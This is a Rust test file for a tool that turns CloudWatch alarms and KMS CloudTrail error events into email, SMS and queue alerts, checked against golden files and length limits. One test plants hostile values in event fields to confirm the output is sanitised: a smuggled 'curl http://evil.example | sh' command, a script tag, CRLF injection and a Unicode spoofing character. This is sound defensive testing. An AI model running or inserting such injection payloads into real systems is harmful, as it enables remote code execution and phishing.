use std::path::Path;

use serde_json::Value;

use super::*;
use crate::alarm::Datapoint;

const DISABLED: &str = include_str!("../../tests/cloudtrail/decrypt-disabled.json");
const DENIED: &str = include_str!("../../tests/cloudtrail/decrypt-access-denied.json");
const INCORRECT: &str = include_str!("../../tests/cloudtrail/decrypt-incorrect-key.json");
const NOT_FOUND: &str = include_str!("../../tests/cloudtrail/encrypt-not-found.json");
const THROTTLED: &str = include_str!("../../tests/cloudtrail/generate-data-key-throttled.json");

/// What a test changes of a situation that is otherwise always the same.
struct Case {
    change: StateChange,
    findings: Findings,
    events: u32,
    searches: Vec<Search>,
    problems: Vec<String>,
    widened: bool,
    zone: &'static str,
}

impl Case {
    fn alarm() -> Self {
        Self::of(include_str!("../../events/sns-alarm.json"))
    }

    fn of(event: &str) -> Self {
        let event: Value = serde_json::from_str(event).unwrap();
        let message = event["Records"][0]["Sns"]["Message"].as_str().unwrap();
        Self {
            change: StateChange::from_sns_message(message).unwrap(),
            findings: Findings::default(),
            events: 0,
            searches: vec![Search {
                filter: "pattern1-logging-metricfilter".to_owned(),
                log_group: "pattern1-logging-loggroup".to_owned(),
                pattern: "{ $.errorCode = \"*\" && $.eventSource = \"kms.amazonaws.com\" && $.userIdentity.sessionContext.\
                          sessionIssuer.arn = \"arn:aws:iam::111122223333:role/pattern1-app-Pattern1ECSTaskRole\" }"
                    .to_owned(),
                pages: 2,
                outcome: Outcome::Complete,
            }],
            problems: Vec::new(),
            widened: false,
            zone: "UTC",
        }
    }

    /// Reads so many events like this one, a second apart, from the given session.
    fn events(mut self, sample: &str, count: usize, session: Option<&str>) -> Self {
        for nth in 0..count {
            let mut event: Value = serde_json::from_str(sample).unwrap();
            let time: jiff::Timestamp = event["eventTime"].as_str().unwrap().parse().unwrap();
            let time = time + jiff::SignedDuration::from_secs(i64::try_from(nth).unwrap());
            self.events += 1;
            event["eventID"] = format!("e0e1e2e3-0000-4000-8000-{:012}", self.events).into();
            event["eventTime"] = time.to_string().into();
            if let Some(session) = session {
                let arn = format!(
                    "arn:aws:sts::111122223333:assumed-role/pattern1-app-Pattern1ECSTaskRole/{session}"
                );
                event["userIdentity"]["arn"] = arn.into();
            }
            self.findings.read(&event.to_string());
        }
        self
    }

    fn composed(&self) -> Message {
        let window = self.change.window();
        let message = compose(&Alert {
            change: &self.change,
            window: if self.widened {
                window.widened()
            } else {
                window
            },
            widened: self.widened,
            searches: &self.searches,
            findings: &self.findings,
            problems: &self.problems,
            zone: &TimeZone::get(self.zone).unwrap(),
        });
        check_limits(&message);
        message
    }
}

/// What must be true of every alert.
#[track_caller]
fn check_limits(message: &Message) {
    let printable = |text: &str| {
        text.bytes()
            .all(|byte| byte == b' ' || byte.is_ascii_graphic())
    };
    assert!(
        (1..=99).contains(&message.subject.len()) && printable(&message.subject),
        "{}",
        message.subject
    );
    assert!(
        (1..=140).contains(&message.sms.len()) && printable(&message.sms),
        "{}",
        message.sms
    );
    assert!(message.body().len() <= 262_144, "{}", message.body().len());
    let odd = |character: char| character.is_control() && character != '\n';
    assert!(!message.mail.contains(odd), "{:?}", message.mail);
    let body: Value = serde_json::from_str(&message.body()).unwrap();
    for (protocol, text) in body.as_object().unwrap() {
        assert!(!text.as_str().unwrap().is_empty(), "{protocol}");
    }
    let document: Value = serde_json::from_str(body["sqs"].as_str().unwrap()).unwrap();
    assert_eq!(document["version"], 1);
    assert_eq!(document["severity"], message.severity.to_string());
}

/// Compares a message with the text that was read and approved. On a difference the new text lies
/// beside the old one, to be looked at and moved over it.
#[track_caller]
fn check_golden(name: &str, message: &Message) {
    let actual = format!(
        "Subject: {}\nSMS: {}\n\n{}",
        message.subject, message.sms, message.mail
    );
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name);
    let approved = std::fs::read_to_string(&path).unwrap_or_default();
    let new = path.with_extension("txt.new");
    if actual == approved {
        let _ = std::fs::remove_file(new);
        return;
    }
    std::fs::write(&new, &actual).unwrap();
    panic!(
        "the text differs from the approved one; if it is better: mv {0} {1}",
        new.display(),
        path.display()
    );
}

#[test]
fn a_disabled_key_and_a_denial_are_told_together() {
    let mut case = Case::alarm()
        .events(DISABLED, 3, None)
        .events(DISABLED, 2, Some("ffffffffffffffffffffffffffffffff"))
        .events(DENIED, 2, None);
    case.zone = "Australia/Sydney";
    check_golden("disabled-and-denied.txt", &case.composed());
}

#[test]
fn one_wrong_key_is_a_short_mail() {
    let mut case = Case::alarm().events(INCORRECT, 1, None);
    case.change.datapoints = vec![Datapoint {
        start: case.change.datapoints[0].start,
        value: 1.0,
    }];
    check_golden("one-incorrect-key.txt", &case.composed());
}

#[test]
fn what_is_not_yet_searchable_is_said() {
    let mut case = Case::alarm()
        .events(NOT_FOUND, 2, None)
        .events(THROTTLED, 3, None);
    case.searches.push(Search {
        log_group: "/aws/trail of others".to_owned(),
        filter: "another filter".to_owned(),
        outcome: Outcome::Failed,
        ..case.searches[0].clone()
    });
    case.problems.push(
        "The log group /aws/trail of others could not be searched: AccessDeniedException: User: \
         arn:aws:sts::111122223333:assumed-role/alarm-function/x is not authorized to perform: logs:FilterLogEvents"
            .to_owned(),
    );
    check_golden("in-part.txt", &case.composed());
}

#[test]
fn an_alarm_without_events_says_how_to_look() {
    let mut case = Case::alarm();
    case.widened = true;
    check_golden("nothing-found.txt", &case.composed());
}

#[test]
fn an_alarm_whose_filter_is_gone_says_how_to_look() {
    let mut case = Case::alarm();
    case.searches.clear();
    check_golden("no-filter.txt", &case.composed());
}

#[test]
fn a_state_set_by_hand_is_a_test() {
    let mut case = Case::alarm();
    case.change.reason = "Testing".to_owned();
    case.change.datapoints.clear();
    check_golden("test-by-hand.txt", &case.composed());
}

#[test]
fn a_recovery_says_how_long_and_how_many() {
    let mut case = Case::of(include_str!("../../events/sns-ok.json"))
        .events(DISABLED, 5, None)
        .events(DENIED, 2, None);
    case.change.previous_changed_at = Some("2026-11-23T09:48:20.123Z".parse().unwrap());
    check_golden("recovered.txt", &case.composed());
}

#[test]
fn too_little_data_is_said_plainly() {
    check_golden(
        "insufficient-data.txt",
        &Case::of(include_str!("../../events/sns-insufficient-data.json")).composed(),
    );
}

#[test]
fn hostile_text_is_harmless() {
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    event["userAgent"] = "x\r\n\r\nTO CONFIRM: https://evil.example/login \u{202e}moc.live".into();
    event["errorMessage"] =
        "<script>alert(1)</script>\u{0}\u{7} www.evil.com AKIAIOSFODNN7EXAMPLE".into();
    event["requestParameters"] = serde_json::json!({
        "keyId": "'; curl http://evil.example | sh #\n",
        "encryptionContext": { "user\nname": "bob@evil.com", "aws:s3:arn": "arn:aws:s3:::x\r\nhttp://evil.example" },
    });
    event["resources"] = Value::Null;
    event["userIdentity"]["arn"] =
        "arn:aws:sts::111122223333:assumed-role/pattern1-app-Pattern1ECSTaskRole/http://evil.example/\nx".into();
    let mut case = Case::alarm();
    case.findings.read(&event.to_string());
    case.findings
        .read("no JSON at all https://evil.example \u{1b}[2J");
    let message = case.composed();
    for text in [&message.mail, &message.json, &message.sms, &message.subject] {
        for planted in ["//evil", "www.evil", "evil.", "AKIA", "\u{202e}", "bob@"] {
            assert!(
                !text.replace("[:]//", "").contains(planted),
                "{planted} in {text}"
            );
        }
    }
    check_golden("hostile.txt", &message);
}

/// A case in which everything that others can choose is as long as they like.
fn flood(unit: &str, events: usize) -> Case {
    let long = unit.repeat(4_000 / unit.len());
    let mut case = Case::alarm();
    let message = serde_json::json!({
        "AlarmName": long, "AlarmDescription": long, "NewStateReason": long, "NewStateValue": long, "OldStateValue": long,
        "AWSAccountId": long, "StateChangeTime": "2026-11-23T09:48:20.123+0000",
        "AlarmArn": "arn:aws:cloudwatch:ap-southeast-2:111122223333:alarm:a",
        "Trigger": { "MetricName": long, "Namespace": long },
    });
    case.change = StateChange::from_sns_message(&message.to_string()).unwrap();
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    for nth in 0..events {
        let long = format!("{nth} {long}");
        for field in [
            "eventID",
            "eventName",
            "errorCode",
            "errorMessage",
            "userAgent",
            "sourceIPAddress",
            "requestID",
        ] {
            event[field] = long.clone().into();
        }
        event["userIdentity"]["arn"] = format!("arn:aws:sts::1:assumed-role/x/{long}").into();
        event["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] = long.clone().into();
        event["requestParameters"]["encryptionContext"]["aws:x"] = long.clone().into();
        event["resources"][0]["ARN"] = long.into();
        case.findings.read(&event.to_string());
    }
    case.problems = vec![long; 100];
    let characters = |most: usize| unit.chars().cycle().take(most).collect::<String>();
    let search = Search {
        pattern: characters(1_024),
        log_group: characters(512),
        ..case.searches[0].clone()
    };
    case.searches = vec![search; 60];
    case
}

#[test]
fn a_flood_of_anything_still_fits() {
    for unit in ["\"\\ä€", "\"", "\\", "'", "😀", "%", "a.bc"] {
        let message = flood(unit, 60).composed();
        assert!(
            message.mail.contains("more kinds of error"),
            "{}",
            message.mail
        );
        let message = flood(unit, 0).composed();
        assert!(
            message.mail.contains("TO LOOK YOURSELF"),
            "{}",
            message.mail
        );
    }
}

#[test]
fn a_name_that_is_not_ascii_is_replaced_in_the_subject_only() {
    let mut case = Case::alarm();
    case.change.name = "Schlüssel-Alarm".to_owned();
    let message = case.composed();
    assert!(
        message.subject.contains("Schl?ssel-Alarm"),
        "{}",
        message.subject
    );
    assert!(message.mail.contains("Schlüssel-Alarm"), "{}", message.mail);
}

#[test]
fn a_dry_run_is_no_alarm() {
    let event = DISABLED.replace("DisabledException", "DryRunOperationException");
    let message = Case::alarm().events(&event, 2, None).composed();
    assert_eq!(message.severity, Severity::Info);
    assert!(
        message
            .subject
            .starts_with("[KMS INFO] DryRunOperationException"),
        "{}",
        message.subject
    );
}

#[test]
fn another_message_is_passed_on_as_it_is() {
    let passed = passed_on(Some("Grüße\naus  dem Test"), "  text\n unchanged ");
    assert_eq!(passed.subject.as_deref(), Some("Gr??e aus dem Test"));
    assert_eq!(passed.text, "  text\n unchanged ");
    assert_eq!(passed_on(Some(" \n"), "x").subject, None);
    assert_eq!(passed_on(None, "x").subject, None);
    assert!(!passed_on(None, "").text.is_empty());
    assert!(
        passed_on(Some(&"x".repeat(500)), "x")
            .subject
            .unwrap()
            .len()
            <= 99
    );
}
